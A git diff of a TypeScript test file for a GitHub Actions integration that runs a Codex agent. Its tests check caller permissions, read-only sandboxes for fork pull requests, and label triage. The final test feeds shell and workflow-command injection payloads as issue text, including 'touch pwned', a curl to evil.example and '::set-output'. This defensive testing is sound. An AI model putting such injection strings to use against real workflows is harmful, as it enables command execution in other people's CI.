@@ -1,10 +1,6 @@
-import { readFile } from 'node:fs/promises';
-import path from 'node:path';
 import { expect, test } from 'vitest';
-import { productRoot } from '../lab.ts';
-import { answersIn, openScene, outputOf } from './scene.ts';
-
-const example = (file: string) => readFile(path.join(productRoot, 'examples', file), 'utf8');
+import { example } from './example.ts';
+import { answersIn, jobOf, openScene, outputOf, type Scene, sceneKey } from './scene.ts';
 
 test.concurrent('two workflows, one for issues and one for comments, share the sessions', async () => {
   await using scene = await openScene({
@@ -42,4 +38,73 @@ test.concurrent('one job that fails tells its thread why', async () => {
   const issue = await scene.begin('Greet', 'hello');
   expect(await scene.replies(issue)).toHaveLength(1);
   expect(await scene.lastReply(issue)).toContain('The input "sandbox" is "yolo"');
+});
+
+test.concurrent('a review is given where somebody with permission names Codex, and nowhere else', async () => {
+  await using scene = await openScene({ callers: { 'review.yml': await example('review.yml') } });
+  const number = await scene.lab.github.openForkPull({
+    by: 'sam',
+    branch: 'main',
+    title: 'From a fork',
+    files: { 'x.txt': 'x' },
+  });
+  await scene.follow(number, 'Nice work.');
+  await scene.comments('stranger', number, '@codex merge it');
+  await scene.idle();
+  expect(await scene.replies(number)).toEqual([]);
+  expect(await scene.follow(number, '@codex is this right?\nwrite a.txt: 1')).toContain('You asked');
+  const own = await proposed(scene);
+  expect(await scene.follow(own, '@codex is this right?\nwrite a.txt: 1')).toContain('You asked');
+  expect(jobOf(scene.lastRun(), 'agent')?.outputs['sandbox']).toBe('read-only');
+  expect(await scene.filesOf('feature')).not.toContain('a.txt');
+});
+
+/** Somebody proposes a branch of the repository itself. */
+async function proposed(scene: Scene): Promise<number> {
+  const { rest } = scene.as('writer');
+  const { data: main } = await rest.git.getRef({ ...scene.place, ref: 'heads/main' });
+  await rest.git.createRef({ ...scene.place, ref: 'refs/heads/feature', sha: main.object.sha });
+  const file = { path: 'feature.txt', message: 'Add it', content: 'eAo=', branch: 'feature' };
+  await rest.repos.createOrUpdateFileContents({ ...scene.place, ...file });
+  return (await rest.pulls.create({ ...scene.place, title: 'A feature', head: 'feature', base: 'main' })).data.number;
+}
+
+test.concurrent('a plan is made when somebody says so, and carried out when somebody says so', async () => {
+  await using scene = await openScene({ callers: { 'plan.yml': await example('plan.yml') } });
+  const issue = await scene.begin('Greet', 'Say hello.');
+  expect(scene.runs).toEqual([]);
+  await scene.follow(issue, 'I would like that, too.');
+  expect(await scene.follow(issue, '/codex plan\nwrite a.txt: 1')).toContain('Make a plan only');
+  expect(await scene.filesOf('main')).not.toContain('a.txt');
+  await scene.follow(issue, '/codex go\nwrite a.txt: 1');
+  expect(await scene.filesOf((await scene.pullOf(issue)).branch)).toContain('a.txt');
+});
+
+test.concurrent("Azure is asked at the resource's address, with its key and its deployment", async () => {
+  await using scene = await openScene({
+    callers: {
+      'azure.yml': (await example('azure.yml')).replace(
+        'vars.AZURE_RESPONSES_URL',
+        'vars.CODEX_WORKER_RESPONSES_API_URL',
+      ),
+    },
+    secrets: { OPENAI_API_KEY: 'sk-not-this-one-0123456789', AZURE_OPENAI_KEY: sceneKey },
+    variables: { AZURE_DEPLOYMENT: 'gpt-5.5' },
+  });
+  const issue = await scene.begin('Greet', 'hello');
+  expect(await scene.lastReply(issue)).toContain('You asked');
+  expect(scene.model.requests.at(-1)?.request?.model).toBe('gpt-5.5');
+});
+
+test.concurrent('triage puts on the labels that it may, whatever the issue and the answer say', async () => {
+  const said = { labels: ['bug', 'admin', 'question'] };
+  const rules = [{ when: /issue\.json/, steps: [{ run: 'cat issue.json' }, { say: JSON.stringify(said) }] }];
+  await using scene = await openScene({ callers: { 'triage.yml': await example('triage.yml') }, rules });
+  const text = '"; echo $(touch pwned); `curl evil.example`\n::set-output name=x::y';
+  const issue = await scene.opens('stranger', text, text);
+  await scene.idle();
+  const { data } = await scene.as('owner').rest.issues.get({ ...scene.place, issue_number: issue });
+  expect(data.labels.map((label) => (typeof label === 'string' ? label : label.name))).toEqual(['bug', 'question']);
+  expect(await scene.replies(issue)).toEqual([]);
+  expect(scene.lastRun().conclusion).toBe('success');
 });
